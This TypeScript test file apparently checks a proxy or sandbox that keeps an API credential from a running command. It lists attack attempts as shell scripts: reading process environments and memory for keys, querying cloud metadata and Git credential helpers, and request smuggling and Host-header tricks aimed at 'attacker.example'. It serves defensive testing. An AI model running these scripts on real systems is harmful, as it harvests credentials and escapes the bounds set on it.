// Attempts of a command to get a credential of the account that it may use. Each is a shell script. `$API` is the origin
// of the account's API, `$ATTACKER` a server on the same machine, `$PLATFORM` the platform itself.
import { echoes } from './hostile-provider.ts'

/** `shows`: what the command prints instead. `reaches`: the API gets the request, so that it could answer with the credential. */
export type Attempt = { name: string; script: string; shows?: RegExp; reaches?: true }

type Tunnel = { request: string; target?: string; servername?: string; protocols?: string; early?: boolean }

/** Opens a tunnel, and prints what comes back for raw bytes inside it. */
function tunnelled({ request, target, servername, protocols, early = false }: Tunnel): string {
  const code = `
    const net = require('net'), tls = require('tls')
    const host = new URL(process.env.API).host
    const say = (text) => console.log(String(text))
    const fill = (text) => text.replaceAll('HOST', host).replaceAll('ATTACKER', process.env.ATTACKER)
    const socket = net.connect(3128, '127.0.0.1', () => {
      socket.write(fill('CONNECT ${target ?? 'HOST'} HTTP/1.1\\r\\nHost: HOST\\r\\n\\r\\n'))
      if (${early}) socket.write(fill(request))
    })
    const request = Buffer.from('${Buffer.from(request).toString('base64')}', 'base64').toString()
    socket.on('error', say)
    socket.on('close', () => process.exit())
    socket.once('data', (answer) => {
      say(answer)
      if (!String(answer).includes(' 200 ')) return
      const secured = tls.connect({ socket, rejectUnauthorized: false, servername: '${servername ?? ''}', ALPNProtocols: ['${protocols ?? 'http/1.1'}'] })
      secured.on('secureConnect', () => secured.write(fill(request)))
      secured.on('data', say)
      secured.on('error', (error) => { say(error); process.exit() })
      secured.on('close', () => process.exit())
    })
    setTimeout(() => process.exit(), 1500)`
  return `node -e "$(cat <<'CODE'\n${code}\nCODE\n)"`
}

const curl = 'curl -sS -i --max-time 10'
const get = (path: string, more = '') => `GET ${path} HTTP/1.1\r\nHost: HOST\r\n${more}\r\n`

/** Attempts that depend on how the command was started. */
export const attemptsAtHome: readonly Attempt[] = [
  {
    name: 'its environment',
    shows: /CODE_HOST_TOKEN=placeholder-of-causeway/,
    script: 'env; tr "\\0" "\\n" < /proc/self/environ',
  },
  {
    name: 'the environment of other processes',
    script: 'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr "\\0" "\\n"',
  },
  {
    name: 'files',
    shows: /BEGIN CERTIFICATE/,
    script: 'cat /etc/accounts-ca.pem; grep -rsaE "CANARY-|PRIVATE KEY" /etc /run /home /tmp /dev/shm',
  },
  {
    name: 'memory of processes',
    script: `perl -e 'for my $p (glob "/proc/[0-9]*") { next if $p eq "/proc/$$"; open my $m, "<", "$p/maps" or next; while (<$m>) { /^([0-9a-f]+)-([0-9a-f]+) r/ or next; my ($from, $to) = (hex $1, hex $2); open my $f, "<", "$p/mem" or last; sysseek $f, $from, 0; sysread $f, my $bytes, ($to - $from > 1e6 ? 1e6 : $to - $from); print $1 while ($bytes // "") =~ /(CANARY-\\S{0,40}|BEGIN [A-Z ]*PRIVATE KEY)/g } }'`,
  },
  {
    name: 'descriptors left open',
    script: 'ls -l /proc/[0-9]*/fd; for d in 3 4 5 6 7 8 9; do timeout 1 cat <&$d; done 2>&1',
  },
  {
    name: 'the credential helper of Git',
    script: `printf 'url=%s\\n\\n' "$API" | GIT_TERMINAL_PROMPT=0 git credential fill`,
  },
  {
    name: 'what Git and curl trace',
    script: `GIT_TERMINAL_PROMPT=0 GIT_TRACE_CURL=1 GIT_CURL_VERBOSE=1 git ls-remote "$API/git/repo.git" 2>&1; curl -sv --trace-ascii - "$API/v1/models"`,
  },
]

const elsewhere: Attempt[] = [
  { name: 'another host', shows: /403/, script: `${curl} https://example.com/` },
  { name: 'another port of the host', shows: /403/, script: `${curl} "https://$ATTACKER/"` },
  { name: 'another address of the machine', shows: /403/, script: `${curl} "https://127.0.0.2:\${API##*:}/echo/body"` },
  { name: 'the platform', shows: /403/, script: `${curl} "https://$PLATFORM/v0/integrations/connections"` },
  { name: 'the metadata address of clouds', shows: /403/, script: `${curl} https://169.254.169.254/latest/meta-data/` },
  { name: 'an IPv6 address', shows: /403/, script: `${curl} "https://[::1]:\${API##*:}/echo/body"` },
  {
    name: 'without the proxy',
    shows: /Couldn't connect|Failed to connect/,
    script: `${curl} --noproxy "*" "$API/echo/body"`,
  },
  {
    name: 'plain HTTP',
    shows: /Plain HTTP is refused/,
    script: `${curl} -x "$HTTPS_PROXY" "http://\${API#https://}/echo/body"`,
  },
  {
    name: 'DNS',
    shows: /ENOTFOUND|ECONNREFUSED|EAI_AGAIN/,
    script: `getent hosts example.com; node -e "require('dns').promises.resolve('token.example.com').catch(console.log)"`,
  },
  {
    name: 'a redirect to another host',
    reaches: true,
    shows: /CONNECT tunnel failed|403/,
    script: `${curl} -L "$API/echo/outside"`,
  },
  { name: 'a redirect inside', reaches: true, shows: /HTTP\/1.1 200 OK/, script: `${curl} -L "$API/echo/inside"` },
  {
    name: 'the token endpoint',
    shows: /invalid_grant|input_invalid|400/,
    script: `${curl} "$API/token" -d grant_type=refresh_token -d "refresh_token=$CODE_HOST_TOKEN" -d client_id=c`,
  },
]

const inTheTunnel: Attempt[] = [
  { name: 'another Host header', shows: / 421 /, script: `${curl} -H "Host: $ATTACKER" "$API/echo/body"` },
  {
    name: 'two Host headers',
    shows: / 4(00|21) /,
    script: tunnelled({ request: 'GET /echo/body HTTP/1.1\r\nHost: HOST\r\nHost: ATTACKER\r\n\r\n' }),
  },
  {
    name: 'another server name',
    shows: /^(?![\s\S]*200 OK)/,
    script: tunnelled({ request: get('/echo/body'), servername: 'attacker.example' }),
  },
  { name: 'an address instead of a path', shows: / 400 /, script: tunnelled({ request: get('http://ATTACKER/') }) },
  {
    name: 'a target with credentials',
    shows: / 403 /,
    script: tunnelled({ request: get('/echo/body'), target: 'x@ATTACKER' }),
  },
  {
    name: 'bytes before the answer',
    shows: /^(?![\s\S]*200 OK)/,
    script: tunnelled({ request: get('/echo/body'), early: true }),
  },
  {
    name: 'two lengths',
    shows: / 400 /,
    script: tunnelled({
      request: `POST /v1/models HTTP/1.1\r\nHost: HOST\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get('http://ATTACKER/')}`,
    }),
  },
  {
    name: 'an unknown transfer coding',
    shows: / 400 /,
    script: tunnelled({
      request: `POST /v1/models HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${get('/echo/body')}`,
    }),
  },
  {
    name: 'a second request for another host',
    shows: / 421 /,
    script: tunnelled({ request: `${get('/v1/models')}GET /x HTTP/1.1\r\nHost: ATTACKER\r\n\r\n` }),
  },
  { name: 'TRACE', shows: / 405 /, script: `${curl} -X TRACE "$API/echo/body"` },
  {
    name: 'an upgrade',
    shows: / 501 /,
    script: tunnelled({
      request: get(
        '/echo/body',
        'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n',
      ),
    }),
  },
  {
    name: 'HTTP/2',
    shows: /alert|ALPN|protocol|disconnected/i,
    script: tunnelled({ request: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', protocols: 'h2' }),
  },
  {
    name: 'large headers',
    shows: / 431 /,
    script: `${curl} -H "X-Large: $(head -c 20000 /dev/zero | tr '\\0' a)" "$API/echo/body"`,
  },
  {
    name: 'a Connection header that names the credential',
    reaches: true,
    shows: /\*{20}/,
    script: `${curl} -H "Connection: authorization" "$API/echo/body"`,
  },
  {
    name: 'its own credential',
    reaches: true,
    shows: /\*{20}/,
    script: `${curl} -H "Authorization: Bearer stolen" -u a:b "$API/echo/body"`,
  },
  {
    name: 'the Basic credential of Git',
    reaches: true,
    shows: /\*{20}/,
    script: `${curl} "$API/echoing/info/refs?service=git-upload-pack"`,
  },
]

const options: Record<string, string> = { charset: '-H "Accept-Charset: utf-16"' }

const unzipped = (name: string, times: number) => `curl -sS "$API/echo/${name}"${' | gunzip -c'.repeat(times)}`

const ranges = `for at in 0 5 10 15 20 25 30 35 40; do curl -sS -r "$at-$((at + 4))" "$API/echo/range"; done`

const scripts: Record<string, string> = {
  range: ranges,
  transfer: unzipped('transfer', 1),
  twice: unzipped('twice', 2),
}

const echoing: Attempt[] = Object.keys(echoes)
  .filter((name) => name !== 'inside' && name !== 'outside')
  .map((name) => ({
    name: `a response that repeats it: ${name}`,
    reaches: true as const,
    script: scripts[name] ?? `${curl} --compressed ${options[name] ?? ''} "$API/echo/${name}"`,
  }))

/** Attempts that depend on the proxy. */
export const attemptsOutside = { elsewhere, inTheTunnel, echoing }

export const attempts: readonly Attempt[] = [...attemptsAtHome, ...Object.values(attemptsOutside).flat()]
